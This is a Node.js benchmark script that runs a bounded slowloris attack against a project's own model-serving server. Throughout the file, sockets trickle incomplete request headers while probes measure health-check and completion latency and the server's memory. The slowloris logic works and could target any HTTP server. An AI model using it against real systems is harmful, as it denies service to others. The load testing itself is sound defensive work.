// A bounded slowloris against `jambo serve`: CONNECTIONS sockets each send a request header one byte at a time,
// never finishing it, and are opened again as soon as the server closes them; meanwhile GET /health on a fresh
// connection every PROBE_MS and greedy completions one after another measure what other clients see, and the
// server's resident memory is sampled. Prints the figures; bench/slowloris.sh runs it against a server it starts,
// tests/server/transport.test.mjs a small version with bounds.
// Usage: node bench/slowloris.mjs URL SERVER_PID [connections] [seconds]
import { readFileSync } from 'node:fs';
import http from 'node:http';
import net from 'node:net';

const sleep = (ms) => new Promise((resolve) => setTimeout(resolve, ms));

function residentBytes(pid) {
  const status = readFileSync(`/proc/${pid}/status`, 'utf8');
  return Number(status.match(/^VmRSS:\s+(\d+) kB/m)[1]) * 1024;
}

// One request on a connection of its own: milliseconds to the end of the answer, or an error.
function timed(url, body) {
  const started = performance.now();
  return new Promise((resolve) => {
    const request = http.request(url, {
      agent: false,
      method: body ? 'POST' : 'GET',
      headers: body ? { 'Content-Type': 'application/json' } : {},
      timeout: 10_000,
    }, (response) => {
      response.resume();
      response.on('end', () => resolve({ ok: response.statusCode === 200, ms: performance.now() - started }));
    });
    request.on('timeout', () => request.destroy(new Error('timed out')));
    request.on('error', () => resolve({ ok: false, ms: performance.now() - started }));
    request.end(body);
  });
}

function summary(samples) {
  const ms = samples.filter((sample) => sample.ok).map((sample) => sample.ms).sort((a, b) => a - b);
  return {
    count: samples.length,
    failures: samples.length - ms.length,
    p50: ms.length ? ms[Math.floor(ms.length / 2)] : NaN,
    max: ms.length ? ms[ms.length - 1] : NaN,
  };
}

// The attack: {health, completion: {count, failures, p50, max}, rss: {before, peak}, opened, closedByServer}.
export async function slowloris(url, pid, { connections = 2000, seconds = 30, byteMs = 1000, probeMs = 200 } = {}) {
  const { hostname, port } = new URL(url);
  const sockets = new Set();
  let opened = 0;
  let closedByServer = 0;
  let attacking = true;
  const open = () => {
    const socket = net.connect({ host: hostname, port: Number(port) });
    opened += 1;
    sockets.add(socket);
    socket.on('connect', () => socket.write('POST /v1/completions HTTP/1.1\r\nHost: x\r\nX-Slow: '));
    socket.on('data', () => {});
    socket.on('error', () => {});
    socket.on('close', () => {
      sockets.delete(socket);
      if (!attacking) return;
      closedByServer += 1;
      setTimeout(open, 10);
    });
  };

  const body = JSON.stringify({ model: 'jambo-demo', prompt: 'The river', max_tokens: 8, temperature: 0 });
  await timed(`${url}/v1/completions`, body);  // "before" includes the engine's working set
  const rss = { before: residentBytes(pid), peak: 0 };
  for (let i = 0; i < connections; i += 1) {
    open();
    if (i % 100 === 99) await sleep(20);  // no SYN flood: the point is slow clients, not many handshakes
  }
  const trickle = setInterval(() => {
    for (const socket of sockets) if (socket.writable && !socket.connecting) socket.write('a');
  }, byteMs);
  const memory = setInterval(() => { rss.peak = Math.max(rss.peak, residentBytes(pid)); }, 100);

  const deadline = performance.now() + seconds * 1000;
  const health = [];
  const completion = [];
  await Promise.all([
    (async () => {
      while (performance.now() < deadline) {
        health.push(await timed(`${url}/health`));
        await sleep(probeMs);
      }
    })(),
    (async () => {
      while (performance.now() < deadline) completion.push(await timed(`${url}/v1/completions`, body));
    })(),
  ]);
  attacking = false;
  clearInterval(trickle);
  clearInterval(memory);
  for (const socket of sockets) socket.destroy();
  return { health: summary(health), completion: summary(completion), rss, opened, closedByServer };
}

if (import.meta.url === `file://${process.argv[1]}`) {
  const [url, pid, connections = '2000', seconds = '30'] = process.argv.slice(2);
  const result = await slowloris(url, Number(pid), { connections: Number(connections), seconds: Number(seconds) });
  const ms = (value) => (Number.isNaN(value) ? '-' : value.toFixed(1));
  const mib = (bytes) => (bytes / (1 << 20)).toFixed(1);
  console.log(`slowloris: ${connections} connections sending a byte a second for ${seconds} s ` +
    `(${result.opened} opened, ${result.closedByServer} closed by the server)`);
  for (const [name, figures] of [['GET /health', result.health], ['completion', result.completion]]) {
    console.log(`${name.padEnd(12)} ${String(figures.count).padStart(5)} requests, ${figures.failures} failed, ` +
      `p50 ${ms(figures.p50)} ms, max ${ms(figures.max)} ms`);
  }
  console.log(`server RSS   before ${mib(result.rss.before)} MiB, peak ${mib(result.rss.peak)} MiB`);
}
